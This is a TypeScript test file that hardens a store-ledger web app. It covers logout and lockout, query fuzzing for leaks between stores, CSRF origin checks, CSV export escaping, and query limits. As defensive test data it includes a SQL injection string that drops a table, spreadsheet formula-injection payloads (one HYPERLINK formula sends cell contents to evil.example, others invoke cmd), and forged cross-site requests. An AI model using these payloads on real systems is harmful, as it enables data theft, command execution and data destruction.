/**
 * Auth hardening and query fuzzing: whatever `where`, `sort`, `depth` and `select` a client
 * sends, no role ever gets a 500 or a row of another store.
 */
import fc from 'fast-check'
import { beforeAll, describe, expect, it } from 'vitest'

import { readdirSync, readFileSync, statSync } from 'node:fs'
import path from 'node:path'

import { toCsv } from '@/lib/csv'

import { createUser, unique } from '../helpers/factories'
import { testPayload } from '../helpers/payload'
import { checkoutAs, expectLedgerClean, newCustomer, newWorld, type World } from '../helpers/world'

let world: World
let foreignIds: Record<string, number[]>

const COLLECTIONS = [
  'customers',
  'invoices',
  'transactions',
  'allocations',
  'advance-payments',
  'advance-utilizations',
  'bookings',
  'assets',
  'credit-cards',
  'credit-card-invoices',
  'payment-statuses',
  'stores',
  'users',
] as const
const FIELDS = [
  'id',
  'store',
  'name',
  'phone',
  'number',
  'status',
  'amount',
  'total',
  'amountDue',
  'pendingBalance',
  'customer',
  'customer.name',
  'customer.store',
  'store.name',
  'createdAt',
  'role',
  'email',
  'type',
  'kind',
  'isClosed',
  'nonexistent',
  'password',
  'hash',
  'salt',
]
const OPERATORS = ['equals', 'not_equals', 'in', 'not_in', 'like', 'contains', 'greater_than', 'less_than_equal', 'exists', 'near', 'all']

beforeAll(async () => {
  world = await newWorld({ invoicePrefix: 'SEC' })
  // rows in the other store, which no fuzzed query may reveal to this store's users
  const payload = await testPayload()
  const otherCashier = await createUser(payload, 'cashier', [world.otherStore])
  const token = await world.api.login(otherCashier.email)
  const other = { ...world, store: world.otherStore, tokens: { ...world.tokens, cashier: token } }
  const customer = await newCustomer(other)
  const sale = await checkoutAs(other, token, {
    customer: customer.id,
    items: [{ description: 'Secret', quantity: 1, unitPrice: 1_000 }],
    payments: [{ method: 'cash', amount: 500 }],
  })
  foreignIds = { customers: [customer.id], invoices: [sale.body.bill.id], transactions: sale.body.transactions.map((tx: { id: number }) => tx.id) }
  const mine = await newCustomer(world)
  await checkoutAs(world, world.tokens.cashier, { customer: mine.id, items: [{ description: 'Mine', quantity: 1, unitPrice: 2_000 }] })
})

describe('auth', () => {
  it('logout invalidates the token', async () => {
    const user = await createUser(await testPayload(), 'cashier', [world.store])
    const token = await world.api.login(user.email)
    expect((await world.api.get('/api/customers?limit=1', { token })).status).toBe(200)
    expect((await world.api.post('/api/users/logout', { token })).status).toBe(200)
    const after = await world.api.get('/api/customers?limit=1', { token })
    expect(after.status).toBe(401) // not logged in any more (SPEC §4)
  })

  it('locks an account after 5 failed logins, and the lockout answers exactly like an unknown email (issue 12 #10)', async () => {
    const user = await createUser(await testPayload(), 'cashier', [world.store])
    for (let i = 0; i < 5; i++) {
      expect((await world.api.post('/api/users/login', { body: { email: user.email, password: 'wrong-password' } })).status).toBe(401)
    }
    const locked = await world.api.post('/api/users/login', { body: { email: user.email, password: 'test-pass-123' } })
    expect(locked.status).toBe(401)
    const unknown = await world.api.post('/api/users/login', { body: { email: `nobody-${Date.now()}@test.tally`, password: 'test-pass-123' } })
    expect(locked.status).toBe(unknown.status)
    expect(locked.body).toEqual(unknown.body)
    expect(JSON.stringify(locked.body)).not.toMatch(/locked/i)
    // still locked: the right password does not get in until an owner or admin unlocks
    const again = await world.api.post('/api/users/login', { body: { email: user.email, password: 'test-pass-123' } })
    expect(again.status).toBe(401)
  })
})

describe('query fuzzing', () => {
  const query = fc.record({
    collection: fc.constantFrom(...COLLECTIONS),
    role: fc.constantFrom('admin', 'owner', 'cashier', 'otherOwner', 'anonymous'),
    field: fc.constantFrom(...FIELDS),
    operator: fc.constantFrom(...OPERATORS),
    value: fc.oneof(
      fc.integer({ min: -5, max: 1_000_000 }),
      fc.string({ maxLength: 12 }),
      fc.constantFrom('true', 'null', '', "'; DROP TABLE customers; --", '%', '[object Object]'),
    ),
    sort: fc.constantFrom('', 'id', '-id', 'name', '-pendingBalance', 'customer.name', 'nonexistent', '-createdAt'),
    depth: fc.constantFrom('0', '1', '2', '5', '-1', 'abc', '100'),
    select: fc.constantFrom('', 'name', 'store', 'password', 'hash'),
    limit: fc.constantFrom('1', '10', '0', '-1', '1000', 'x'),
  })

  it('never answers 500 and never returns another store’s row', async () => {
    await fc.assert(
      fc.asyncProperty(query, async (q) => {
        const params = new URLSearchParams()
        params.set(`where[${q.field}][${q.operator}]`, String(q.value))
        if (q.sort) params.set('sort', q.sort)
        params.set('depth', q.depth)
        if (q.select) params.set(`select[${q.select}]`, 'true')
        params.set('limit', q.limit)
        const token = q.role === 'anonymous' ? undefined : world.tokens[q.role as keyof World['tokens']]
        const { status, body } = await world.api.get(`/api/${q.collection}?${params}`, { token })
        expect(status, `${q.collection}?${params} as ${q.role}: ${JSON.stringify(body).slice(0, 300)}`).toBeLessThan(500)
        if (status === 200 && q.role !== 'admin' && Array.isArray(body.docs)) {
          const text = JSON.stringify(body)
          expect(text).not.toMatch(/"(hash|salt)"/)
          if (q.role !== 'otherOwner') {
            for (const id of foreignIds[q.collection] ?? []) expect(body.docs.map((doc: { id: number }) => doc.id)).not.toContain(id)
            const storeIds = body.docs.flatMap((doc: { store?: number | { id: number } }) =>
              doc.store === undefined ? [] : [typeof doc.store === 'object' && doc.store ? doc.store.id : doc.store],
            )
            expect(storeIds).not.toContain(world.otherStore.id)
          }
        }
      }),
      { numRuns: 400 },
    )
  })
})

// ---------------------------------------------------------------------------------------------
// Holes found by an outside probe (issue 12)
// ---------------------------------------------------------------------------------------------

/** A request as a browser sends it: the session cookie, and whatever Origin / Referer / type. */
async function browser(method: string, path: string, token: string, options: { origin?: string; referer?: string; type?: string; body?: string } = {}) {
  const headers: Record<string, string> = { Cookie: `payload-token=${token}` }
  if (options.origin) headers.Origin = options.origin
  if (options.referer) headers.Referer = options.referer
  if (options.type) headers['Content-Type'] = options.type
  const response = await fetch(`${world.api.baseUrl}${path}`, { method, headers, body: options.body })
  const text = await response.text()
  let body: any = text
  try {
    body = JSON.parse(text)
  } catch {
    // keep text
  }
  return { status: response.status, body }
}

async function advanceBalanceOf(id: number): Promise<number> {
  return (await (await testPayload()).findByID({ collection: 'customers', id, overrideAccess: true, depth: 0 })).advanceBalance as number
}

describe('issue 12 #3: CSRF — a cookie-authenticated write must come from an allowed origin', () => {
  const deposit = JSON.stringify({ amount: 10_000, method: 'cash' })
  let customer: number
  beforeAll(async () => {
    customer = (await newCustomer(world)).id
  })

  it.each([
    ['Origin http://evil.example, text/plain', { origin: 'http://evil.example', type: 'text/plain' }],
    ['Origin http://evil.example, application/json', { origin: 'http://evil.example', type: 'application/json' }],
    ['Origin http://localhost:3999 (same site, another port)', { origin: 'http://localhost:3999', type: 'text/plain' }],
    ['Origin http://127.0.0.1:1 (same host, another port)', { origin: 'http://127.0.0.1:1', type: 'application/json' }],
    ['Origin null', { origin: 'null', type: 'application/json' }],
    ['no Origin, no Referer', { type: 'application/json' }],
    ['no Origin, Referer http://evil.example/page', { referer: 'http://evil.example/page', type: 'application/json' }],
  ] as const)('POST /api/customers/:id/advances with the cookie, %s → 403, no deposit', async (_what, options) => {
    const before = await advanceBalanceOf(customer)
    const res = await browser('POST', `/api/customers/${customer}/advances`, world.tokens.cashier, { ...options, body: deposit })
    expect(res.status, JSON.stringify(res.body)).toBe(403)
    expect(res.body.errors[0].message).toMatch(/cross-site/i)
    expect(await advanceBalanceOf(customer)).toBe(before)
  })

  it('the same from this app: 201 with its Origin, 201 with only its Referer', async () => {
    const self = world.api.baseUrl
    const before = await advanceBalanceOf(customer)
    expect((await browser('POST', `/api/customers/${customer}/advances`, world.tokens.cashier, { origin: self, type: 'application/json', body: deposit })).status).toBe(201)
    expect((await browser('POST', `/api/customers/${customer}/advances`, world.tokens.cashier, { referer: `${self}/pos`, type: 'application/json', body: deposit })).status).toBe(
      201,
    )
    expect(await advanceBalanceOf(customer)).toBe(before + 20_000)
  })

  it('money endpoints take application/json only: text/plain from this app is 415, nothing written', async () => {
    const before = await advanceBalanceOf(customer)
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x']) {
      const res = await browser('POST', `/api/customers/${customer}/advances`, world.tokens.cashier, { origin: world.api.baseUrl, type, body: deposit })
      expect(res.status, `${type}: ${JSON.stringify(res.body)}`).toBe(415)
    }
    const jwt = await fetch(`${world.api.baseUrl}/api/pos/checkout`, {
      method: 'POST',
      headers: { Authorization: `JWT ${world.tokens.cashier}`, 'Content-Type': 'text/plain' },
      body: JSON.stringify({ store: world.store.id, customer, items: [{ description: 'x', quantity: 1, unitPrice: 100 }] }),
    })
    expect(jwt.status).toBe(415)
    expect(await advanceBalanceOf(customer)).toBe(before)
  })

  it('an origin listed in TALLY_ALLOWED_ORIGINS may use the cookie', async () => {
    const saved = process.env.TALLY_ALLOWED_ORIGINS
    process.env.TALLY_ALLOWED_ORIGINS = 'https://till.example, https://other.example'
    try {
      const res = await browser('POST', `/api/customers/${customer}/advances`, world.tokens.cashier, { origin: 'https://till.example', type: 'application/json', body: deposit })
      expect(res.status, JSON.stringify(res.body)).toBe(201)
      expect(
        (await browser('POST', `/api/customers/${customer}/advances`, world.tokens.cashier, { origin: 'https://till.example.evil.com', type: 'application/json', body: deposit }))
          .status,
      ).toBe(403)
    } finally {
      if (saved === undefined) delete process.env.TALLY_ALLOWED_ORIGINS
      else process.env.TALLY_ALLOWED_ORIGINS = saved
    }
  })

  it("Payload's own routes too: a cross-site PATCH, DELETE or GraphQL mutation with the cookie is 403", async () => {
    const evil = { origin: 'http://evil.example', type: 'application/json' }
    const patch = await browser('PATCH', `/api/customers/${customer}`, world.tokens.owner, { ...evil, body: JSON.stringify({ name: 'Renamed by evil' }) })
    expect(patch.status).toBe(403)
    const fresh = (await newCustomer(world)).id
    expect((await browser('DELETE', `/api/customers/${fresh}`, world.tokens.owner, evil)).status).toBe(403)
    const gql = await browser('POST', '/api/graphql', world.tokens.owner, {
      ...evil,
      body: JSON.stringify({ query: `mutation { updateCustomer(id: ${customer}, data: { name: "evil" }) { id } }` }),
    })
    expect(gql.status).toBe(403)
    const stored = await (await testPayload()).findByID({ collection: 'customers', id: customer, overrideAccess: true, depth: 0 })
    expect(stored.name).not.toMatch(/evil/)
    expect((await (await testPayload()).count({ collection: 'customers', where: { id: { equals: fresh } }, overrideAccess: true })).totalDocs).toBe(1)
  })

  it('reads and non-browser clients are unaffected: a cross-site GET with the cookie, a JWT client without Origin', async () => {
    expect((await browser('GET', `/api/customers/${customer}?depth=0`, world.tokens.cashier, { origin: 'http://evil.example' })).status).toBe(200)
    const res = await world.api.post(`/api/customers/${customer}/advances`, { token: world.tokens.cashier, body: { amount: 100, method: 'cash' } })
    expect(res.status).toBe(201)
    await expectLedgerClean()
  })
})

describe('issue 12 #9: every CSV export escapes formulae', () => {
  const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(A1:A2)', '\t=1+1', '\r=1+1']

  it('a cell that a spreadsheet would run as a formula is written as text', () => {
    const csv = toCsv(
      HOSTILE.map((name) => ({ name, phone: '+919876543210', amount: '-600.00' })),
      ['name', 'phone', 'amount'],
    )
    const lines = csv.split('\r\n').slice(1)
    expect(lines).toHaveLength(HOSTILE.length)
    for (const line of lines) {
      expect(line).toMatch(/^"'/) // quoted and prefixed with ' : text, never a formula
      // phones and negative amounts are numbers, not formulae: left as they are
      expect(line.endsWith(',+919876543210,-600.00')).toBe(true)
    }
  })

  it('no export writes CSV except through it', () => {
    const files: string[] = []
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const full = path.join(dir, name)
        if (statSync(full).isDirectory()) walk(full)
        else if (/\.tsx?$/.test(name)) files.push(full)
      }
    }
    walk(path.resolve('src'))
    const direct = files.filter((file) => !file.endsWith(path.join('lib', 'csv.ts')) && /\bunparse\s*\(/.test(readFileSync(file, 'utf8')))
    expect(direct, 'these files write CSV without escaping formulae').toEqual([])
  })
})

describe('also hardened (issue 12)', () => {
  it.each(['owner', 'cashier'] as const)('%s: REST limit=0 and pagination=false (unbounded) are refused; 1000 is the most', async (role) => {
    for (const query of ['limit=0', 'pagination=false', 'limit=1001', 'limit=-1']) {
      const res = await world.api.get(`/api/customers?${query}`, { token: world.tokens[role] })
      expect(res.status, `${query}: ${JSON.stringify(res.body).slice(0, 200)}`).toBe(400)
      expect(JSON.stringify(res.body)).toMatch(/limit|pagination/)
    }
    expect((await world.api.get('/api/customers?limit=1000', { token: world.tokens[role] })).status).toBe(200)
    for (const query of ['{ Customers(limit: 0) { docs { id } } }', '{ Customers(pagination: false) { docs { id } } }']) {
      const gql = await world.api.graphql(query, world.tokens[role])
      expect(gql.status, query).toBe(400)
      expect(gql.body.errors?.[0]?.message).toMatch(/limit|pagination/)
    }
    const variable = await world.api.graphql('query Q($n: Int) { Customers(limit: $n) { docs { id } } }', world.tokens[role], { n: 0 })
    expect(variable.status).toBe(400)
  })

  it('admin: limit=0 still lists everything', async () => {
    expect((await world.api.get('/api/stores?limit=0', { token: world.tokens.admin })).status).toBe(200)
  })

  it('a populated createdBy never exposes the user’s sessions (not even to that user)', async () => {
    const customer = await newCustomer(world)
    const paid = await world.api.post('/api/transactions', {
      token: world.tokens.owner,
      body: { store: world.store.id, type: 'income', kind: 'payment', amount: 100, method: 'cash', customer: customer.id },
    })
    expect(paid.status, JSON.stringify(paid.body)).toBe(201)
    for (const depth of [1, 2]) {
      const res = await world.api.get(`/api/transactions/${paid.body.doc.id}?depth=${depth}`, { token: world.tokens.owner })
      expect(res.status).toBe(200)
      expect(res.body.createdBy?.id ?? res.body.createdBy).toBe(world.owner.id)
      expect(JSON.stringify(res.body)).not.toMatch(/"sessions":\[\{/)
    }
    const list = await world.api.get('/api/transactions?depth=1&limit=50', { token: world.tokens.owner })
    expect(JSON.stringify(list.body)).not.toMatch(/"sessions":\[\{/)
    const me = await world.api.get(`/api/users/${world.owner.id}`, { token: world.tokens.owner })
    expect(JSON.stringify(me.body)).not.toMatch(/"sessions":\[\{/)
    const gql = await world.api.graphql(`{ Transaction(id: ${paid.body.doc.id}) { createdBy { email sessions { id } } } }`, world.tokens.owner)
    expect(JSON.stringify(gql.body.data ?? {})).not.toMatch(/"sessions":\[\{/)
  })

  it('an owner’s "duplicate" of a payment gets a reference of its own', async () => {
    const customer = await newCustomer(world)
    const paid = await world.api.post('/api/transactions', {
      token: world.tokens.owner,
      body: { store: world.store.id, type: 'income', kind: 'payment', amount: 100, method: 'upi', customer: customer.id, reference: unique('UPI') },
    })
    expect(paid.status, JSON.stringify(paid.body)).toBe(201)
    const copy = await world.api.post(`/api/transactions/${paid.body.doc.id}/duplicate`, { token: world.tokens.owner, body: {} })
    expect(copy.status, JSON.stringify(copy.body)).toBeLessThan(300)
    expect(copy.body.doc.reference).not.toBe(paid.body.doc.reference)
    expect(copy.body.doc.reference).toMatch(/^PAY-\d{6}$/)
    await expectLedgerClean()
  })

  it('GraphQL: a query longer than 20,000 characters or nested deeper than 10 is refused', async () => {
    const long = await world.api.graphql(`{ Customers { docs { id ${' name'.repeat(5_000)} } } }`, world.tokens.owner)
    expect(long.status).toBe(400)
    expect(JSON.stringify(long.body)).toMatch(/query/)
    const deep = `{ Transactions(limit: 1) { docs { ${'reversalOf { '.repeat(12)}id${' }'.repeat(12)} } } }`
    const res = await world.api.graphql(deep, world.tokens.owner)
    expect(res.status).toBe(400)
    expect(res.body.errors?.[0]?.message, JSON.stringify(res.body)).toMatch(/deep/i)
    // the same depth through fragments
    const viaFragments = await world.api.graphql(
      `{ Transactions(limit: 1) { docs { ...A } } } ${Array.from({ length: 12 }, (_, i) => `fragment ${String.fromCharCode(65 + i)} on Transaction { reversalOf { ${i === 11 ? 'id' : `...${String.fromCharCode(66 + i)}`} } }`).join(' ')}`,
      world.tokens.owner,
    )
    expect(viaFragments.status).toBe(400)
    // a query of ordinary depth still answers
    const ok = await world.api.graphql('{ Transactions(limit: 1) { docs { id reversalOf { id } customer { name store { name } } } } }', world.tokens.owner)
    expect(ok.body.errors, JSON.stringify(ok.body)).toBeUndefined()
  })
})
